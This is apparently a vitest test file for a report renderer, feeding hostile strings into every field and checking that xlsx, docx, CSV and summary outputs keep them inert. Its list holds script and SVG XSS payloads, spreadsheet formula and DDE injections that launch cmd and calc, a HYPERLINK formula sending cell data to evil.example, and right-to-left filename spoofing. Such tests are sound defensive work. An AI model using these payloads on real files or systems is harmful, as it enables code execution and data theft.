import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Day, Instant, Json } from '../../../src/domain/brand.ts';
import type { Finding } from '../../../src/domain/finding.ts';
import type { LedgerEntry } from '../../../src/domain/ledger.ts';
import type { FinishedRun } from '../../../src/domain/run.ts';
import type { Target } from '../../../src/domain/target.ts';
import { render } from '../../../src/report/render.ts';
import { sampleRun } from './sample-run.ts';

const TEXTS: readonly (readonly [name: string, text: string])[] = [
  ['a script', '</w:t></w:r><script>alert(1)</script>'],
  ['a picture with a handler', '<svg onload=alert(1)><image href="http://evil.example/"/></svg>'],
  ['quotes', `"'\u201c\u201d\u2018" onmouseover="alert(1)`],
  ['a formula', '=HYPERLINK("http://evil.example/"&A1,"点我")'],
  ['a formula behind blanks', "\u3000\t @SUM(1+1)*cmd|' /C calc'!A0"],
  ['a formula on a second line', 'ok\r\n=1+1'],
  ['an old macro call', "-2+3+cmd|' /C calc'!A0"],
  ['an escape of the format', '_x003D_1+1_x0000_'],
  ['a field code', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'],
  ['marks of a chat', '**[点我](http://evil.example/)** <at user_id="all"></at> <@all> @all `x`'],
  ['right-to-left marks', '正常\u202e gpj.exe\u202c\u2066x\u2069'],
  ['control characters', 'a\u0000b\u0007c\u001bd\u0085e\ufffef\ud800g'],
  ['entities', '&lt;b&gt; &#x3c;script&#x3e; ]]> <!-- <![CDATA['],
  ['a very long text', '长'.repeat(1_000_000)],
];

/** Everything that a site, or an office, can write, is this text. */
function poisoned(text: string): FinishedRun {
  const run = sampleRun({ sites: 4, hostile: false });
  const [first] = run.findings;
  const said = { reason: text, owner: text, who: text };
  const entry: LedgerEntry = {
    ...said,
    ...{ site: 's001', fingerprint: 'f', state: 'mended', due: null, from: text },
    at: '2026-11-01T00:00:00Z' as Instant,
  };
  const findings = run.findings.map((finding, i): Finding => {
    const bad = {
      ...finding,
      message: text,
      target: poisonedTarget(finding.target, text),
      facts: facts(finding.facts, text),
    };
    if (i % 3 === 0) return { ...bad, followUp: { ...entry, repeated: i % 2 === 0 } };
    return i % 3 === 1
      ? { ...bad, waived: { reason: text, owner: text, expires: '2027-01-01' as Day } }
      : bad;
  });
  const seen = { firstSeen: '2026-11-01' as Day, lastSeen: '2026-11-02' as Day, goneOn: null };
  return {
    ...run,
    findings,
    columns: run.columns.map((row) => ({
      ...row,
      name: text,
      url: text,
      latestTitle: text,
      latestUrl: text,
      why: text,
    })),
    manifest: {
      ...run.manifest,
      notes: [text],
      sites: run.manifest.sites.map((site) => ({ ...site, why: text })),
    },
    ledger: {
      firstSeen: new Map(),
      entries: new Map([['f', entry]]),
      absent: first
        ? [
            {
              ...seen,
              verdict: 'gone',
              entry,
              finding: { ...first, message: text, target: poisonedTarget(first.target, text) },
            },
          ]
        : [],
    },
  };
}

function poisonedTarget(target: Target, text: string): Target {
  switch (target.type) {
    case 'link':
      return { ...target, url: text, from: [text, text] };
    case 'element':
      return { ...target, url: text, selector: text, html: text };
    case 'column':
      return { ...target, name: text, url: text };
    case 'page':
    case 'document':
      return { ...target, url: text };
    default:
      return target;
  }
}

function facts(all: { readonly [key: string]: Json }, text: string): { readonly [key: string]: Json } {
  return Object.fromEntries(
    Object.entries(all).map(([key, value]) => [key, typeof value === 'string' ? text : value]),
  );
}

/** What XML 1.0 forbids, and what turns or hides a line. */
const FORBIDDEN = /(?![\t\n\r])\p{Cc}|[\u200e\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]|\p{Cs}/u;

describe.each(TEXTS)('%s, wherever a site can write it', (_, text) => {
  const files = new Map<string, string | Uint8Array>();
  const made = async (name: string) => {
    if (files.size === 0)
      for await (const file of render(poisoned(text), ['json', 'xlsx', 'csv', 'docx']))
        files.set(file.name, file.content);
    return files.get(name) ?? '';
  };

  it('is text in the workbook', { timeout: 120_000 }, async () => {
    const bytes = (await made('ledger.xlsx')) as Uint8Array;
    for (const [part, content] of Object.entries(unzipSync(bytes))) {
      expect(FORBIDDEN.test(strFromU8(content)), part).toBe(false);
      if (part.endsWith('.rels')) expect(strFromU8(content)).not.toContain('External');
    }
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer); // its types name an older Buffer
    let cells = 0;
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells += 1;
          if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink)
            throw new Error(`${sheet.name} ${cell.address} is no text`);
          if (typeof cell.value === 'string' && /^[\s\u3000]*[=+\-@＝＋－＠]/.test(cell.value))
            throw new Error(`${sheet.name} ${cell.address} would be run`);
          if (typeof cell.value === 'string' && cell.value.length > 32_767)
            throw new Error('too long for a cell');
        }),
      );
    expect(cells).toBeGreaterThan(100);
  });

  it('is text in the document', async () => {
    const bytes = (await made('notice.docx')) as Uint8Array;
    const parts = unzipSync(bytes);
    const xml = strFromU8(parts['word/document.xml'] ?? new Uint8Array());
    expect(xml.length).toBeGreaterThan(5_000);
    expect(xml.length).toBeLessThan(500_000);
    expect(FORBIDDEN.test(xml)).toBe(false);
    // Elements and attributes of the form alone, and every sign of markup escaped.
    expect(xml.match(/<\/?(?!\/?(?:w|wp|r|mc):|\?xml)[a-z!][^>]{0,40}/gi) ?? []).toEqual([]);
    expect(xml.match(/&(?!(?:amp|lt|gt|quot|apos);)/g) ?? []).toEqual([]);
    expect(xml).not.toMatch(/<w:(?:fldSimple|instrText|hyperlink|object)/);
    for (const [name, content] of Object.entries(parts))
      if (name.endsWith('.rels')) expect(strFromU8(content), name).not.toContain('External');
  });

  it('is text in the table', async () => {
    const csv = String(await made('findings.csv'));
    expect(FORBIDDEN.test(csv)).toBe(false);
    expect(csv.match(/(?:^|,|\n)"?[\s\u3000]*[=+\-@＝＋－＠]/g) ?? []).toEqual([]);
  });

  it('is short and without marks in messages', async () => {
    const [short, long] = [String(await made('summary.txt')), String(await made('summary.md'))];
    expect(short.length).toBeLessThanOrEqual(151);
    expect(long.length).toBeLessThanOrEqual(1_001);
    expect(`${short}${long}`).not.toMatch(/[<>[\]`@](?!\s)|:\/\//);
    expect(FORBIDDEN.test(`${short}${long}`)).toBe(false);
  });
});
